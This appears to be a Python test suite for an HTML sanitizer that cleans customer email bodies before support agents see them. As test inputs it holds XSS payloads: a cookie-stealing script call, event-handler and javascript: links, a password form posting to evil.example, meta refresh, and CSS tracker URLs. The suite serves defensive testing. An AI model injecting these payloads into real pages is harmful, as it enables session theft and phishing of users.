"""A customer's HTML body shown to an agent: nothing runs, submits or phones home; formatting survives."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.rich_text import SafeHtml, html_to_text, sanitize_html

CIDS = {"logo@shop.example": "/files/3f2a", "<chart@shop.example>": "https://hub.example/files/9c1d"}


def clean(html: str, *, remote_images: bool = False) -> SafeHtml:
    return sanitize_html(html, cid_urls=CIDS, remote_images=remote_images)


# -- nothing runs ------------------------------------------------------------------------------


def test_scripts_go_with_their_content() -> None:
    safe = clean("<p>Hello<script>steal(document.cookie)</script></p><noscript>x</noscript>")
    assert "script" not in safe.html and "steal" not in safe.html
    assert "<p>Hello</p>" in safe.html


@pytest.mark.parametrize("html", [
    '<img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(1)">',
    '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
    '<body onload="alert(1)">x</body>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
])
def test_event_handlers_are_stripped(html: str) -> None:
    assert not re.search(r"\son\w+=", clean(html).html)


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "/relative/to/the/hub", "file:///etc/passwd",
])
def test_links_that_run_code_or_point_into_the_hub_lose_their_href(href: str) -> None:
    safe = clean(f'<a href="{href}">click</a>')
    assert "href" not in safe.html
    assert "click" in safe.html


def test_links_open_in_a_new_tab_without_the_opener_or_referrer() -> None:
    safe = clean('<a href="https://shop.example/order/1" target="_self" rel="opener">order</a>')
    assert 'href="https://shop.example/order/1"' in safe.html
    assert 'target="_blank"' in safe.html
    assert 'rel="noopener noreferrer nofollow"' in safe.html
    assert "_self" not in safe.html and '"opener"' not in safe.html


@pytest.mark.parametrize("html", [
    '<form action="https://evil.example/"><input name="password"><button>Send</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
])
def test_forms_frames_objects_base_and_refresh_are_removed(html: str) -> None:
    safe = clean(html)
    assert "evil.example" not in safe.html
    for tag in ("<form", "<input", "<iframe", "<object", "<embed", "<base", "<meta", "<link"):
        assert tag not in safe.html


# -- images ------------------------------------------------------------------------------------


def test_cid_images_point_at_the_hubs_copy_of_the_part() -> None:
    safe = clean('<img src="cid:logo@shop.example" alt="Logo"><img src="cid:chart@shop.example">')
    assert '<img src="/files/3f2a" alt="Logo">' in safe.html
    assert 'src="https://hub.example/files/9c1d"' in safe.html
    assert safe.blocked_images == 0


def test_an_unknown_cid_is_removed() -> None:
    safe = clean('<img src="cid:missing@shop.example" alt="gone">')
    assert "cid:" not in safe.html and "src" not in safe.html


def test_remote_images_are_blocked_and_counted() -> None:
    html = ('<img src="https://tracker.example/open.gif"><img src="http://cdn.example/a.png">'
            '<img src="//cdn.example/b.png"><table background="https://cdn.example/bg.jpg"><tr><td>x</td></tr></table>')
    safe = clean(html)
    assert "example/" not in safe.html
    assert safe.blocked_images == 4


def test_remote_images_are_kept_when_the_agent_allows_them() -> None:
    html = '<img src="https://cdn.example/a.png"><img src="//cdn.example/b.png">'
    safe = clean(html, remote_images=True)
    assert 'src="https://cdn.example/a.png"' in safe.html
    assert 'src="https://cdn.example/b.png"' in safe.html
    assert safe.blocked_images == 0


def test_background_attributes_follow_the_image_rules() -> None:
    safe = clean('<table><tr><td background="cid:logo@shop.example">a</td>'
                 '<td background="javascript:alert(1)">b</td></tr></table>')
    assert 'background="/files/3f2a"' in safe.html
    assert "javascript" not in safe.html


def test_data_urls_are_kept_only_for_raster_images() -> None:
    safe = clean('<img src="data:image/png;base64,iVBORw0KGgo=">'
                 '<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in safe.html
    assert "svg" not in safe.html


def test_images_may_not_point_into_the_hub() -> None:
    # A relative URL resolves against the hub: GET /logout in an agent's session.
    assert "src" not in clean('<img src="/logout">').html


# -- CSS ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("declaration", [
    "background: url(https://tracker.example/x.gif)",
    "background-image: url('https://tracker.example/x.gif')",
    "list-style-image: url(https://tracker.example/x.gif)",
    "color: u\\72l(https://tracker.example/x.gif)",
    "width: expression(alert(1))",
    "background: image-set('https://tracker.example/x.gif' 1x)",
    "content: url(https://tracker.example/x.gif)",
    "position: fixed",
])
def test_css_cannot_fetch_anything_or_cover_the_page(declaration: str) -> None:
    safe = clean(f'<p style="{declaration}; color: #333">text</p>')
    assert "tracker" not in safe.html and "url" not in safe.html and "fixed" not in safe.html
    assert 'style="color:#333"' in safe.html


def test_style_blocks_are_removed_with_their_rules() -> None:
    safe = clean("<style>@import url(https://tracker.example/x.css); p { color: red }</style><p>x</p>")
    assert safe.html == "<p>x</p>"


def test_formatting_people_use_in_mail_survives() -> None:
    html = ('<table border="1" cellpadding="2"><tr><th colspan="2">订单</th></tr>'
            '<tr><td style="color: rgb(255, 0, 0); font-weight: bold">12</td>'
            '<td align="right">¥30</td></tr></table>'
            '<font color="#ff0000" face="微软雅黑">红字</font><ul><li><b>b</b> <i>i</i> <u>u</u></li></ul>'
            '<blockquote>quoted</blockquote>')
    safe = clean(html)
    for kept in ('<table border="1" cellpadding="2">', '<th colspan="2">订单</th>',
                 'style="color:rgb(255, 0, 0);font-weight:bold"', '<td align="right">¥30</td>',
                 '<font color="#ff0000" face="微软雅黑">红字</font>', "<b>b</b>", "<u>u</u>", "<blockquote>"):
        assert kept in safe.html


def test_the_result_is_a_fragment_not_a_document() -> None:
    safe = clean("<!DOCTYPE html><html><head><title>Hi</title></head><body><p>x</p></body></html>")
    assert safe.html == "<p>x</p>"


def test_comments_and_outlook_conditionals_are_dropped() -> None:
    safe = clean('<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--><p>x</p>')
    assert safe.html == "<p>x</p>"


FRAGMENTS = [
    "<script>", "</script>", "<img ", "<a ", "<p ", "</a>", "<style>", "<svg>", "<iframe ", ">", "/>", " ",
    'src="', 'href="', 'style="', 'onerror="', '"', "'", "javascript:", "cid:logo@shop.example",
    "https://tracker.example/x", "url(", "expression(", "\\", ";", "background=", "<!--", "-->", "&#106;",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_whatever_comes_in_nothing_active_comes_out(html: str) -> None:
    safe = clean(html)
    # Text may say "javascript:" harmlessly; only what is inside a tag can act.
    for tag in re.findall(r"<[^>]*>", safe.html.lower()):
        assert not tag.startswith(("<script", "<iframe", "<svg", "<style", "<!--")), tag
        assert "javascript:" not in tag and "url(" not in tag and "expression(" not in tag, tag
        assert not re.search(r"\son\w+=", tag), tag
        assert not re.search(r"(?:src|background)=\"(?:https?:)?//", tag), tag


# -- HTML to text ------------------------------------------------------------------------------


def test_html_to_text_keeps_line_breaks_and_paragraphs() -> None:
    text = html_to_text("<div>Hello<br>there</div><p>Second</p><p>Third</p>")
    assert text == "Hello\nthere\n\nSecond\n\nThird"


def test_html_to_text_keeps_link_urls() -> None:
    text = html_to_text('See <a href="https://shop.example/o/1">the order</a> or '
                        '<a href="https://shop.example">https://shop.example</a>, '
                        'write to <a href="mailto:help@shop.example">help@shop.example</a>.')
    assert text == ("See the order (https://shop.example/o/1) or https://shop.example, "
                    "write to help@shop.example.")


def test_html_to_text_drops_scripts_styles_and_titles() -> None:
    text = html_to_text("<head><title>T</title><style>p{}</style></head><p>x<script>y()</script></p>")
    assert text == "x"


def test_html_to_text_lists_tables_and_entities() -> None:
    text = html_to_text("<ul><li>one</li><li>two</li></ul><table><tr><td>a</td><td>b&amp;c</td></tr></table>")
    assert text == "- one\n- two\n\na b&c"


def test_html_to_text_survives_markup_html_parser_rejects() -> None:
    assert html_to_text("<p>before</p><![foo bar]><p>after</p>") == "before\n\nafter"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_html_to_text_never_raises(html: str) -> None:
    assert isinstance(html_to_text(html), str)
